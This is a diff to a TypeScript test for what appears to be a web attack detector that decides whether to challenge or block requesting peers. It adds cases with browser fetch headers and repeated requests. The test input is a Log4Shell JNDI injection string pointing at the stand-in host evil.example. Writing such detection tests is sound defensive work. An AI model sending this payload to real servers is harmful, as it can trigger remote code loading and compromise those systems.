@@ -171,7 +171,7 @@ describe('correlations', () => {
   })
 })
 
-test('a page that makes its visitors ask for an exploit gets them challenged, not banned', () => {
+test('browsers are challenged before they are banned: a page may have made its visitors ask for an exploit', () => {
   const detector = scenarioDetector({ scenarios: loadScenarios() })
   const measures: (string | undefined)[] = []
   const engine = new Engine({
@@ -186,21 +186,23 @@ test('a page that makes its visitors ask for an exploit gets them challenged, no
   })
   for (const [peer, headers] of [
     ['192.0.2.7', ['Sec-Fetch-Site', 'cross-site', 'Sec-Fetch-Mode', 'no-cors']],
+    ['192.0.2.9', ['Sec-Fetch-Site', 'same-origin', 'Sec-Fetch-Mode', 'cors']],
     ['192.0.2.8', []],
-  ] as const) {
-    const exchange = engine.open({
-      method: 'GET',
-      target: '/?x=${jndi:ldap://evil.example/a}',
-      headers: ['Host', 'h', ...headers],
-      peer,
-      secure: false,
-      httpVersion: '1.1',
-      body: undefined,
-      native: undefined,
-    })
-    engine.settle(exchange, { status: 404, duration: 1, bytes: 0, aborted: false })
-  }
-  assert.deepEqual(measures, ['challenge', 'block'])
+  ] as const)
+    for (const n of [1, 2, 3]) {
+      const exchange = engine.open({
+        method: 'GET',
+        target: `/${n}?x=\${jndi:ldap://evil.example/a}`,
+        headers: ['Host', 'h', ...headers],
+        peer,
+        secure: false,
+        httpVersion: '1.1',
+        body: undefined,
+        native: undefined,
+      })
+      engine.settle(exchange, { status: 404, duration: 1, bytes: 0, aborted: false })
+    }
+  assert.deepEqual(measures, ['challenge', 'challenge', 'block'])
 })
 
 describe('rule folders', () => {
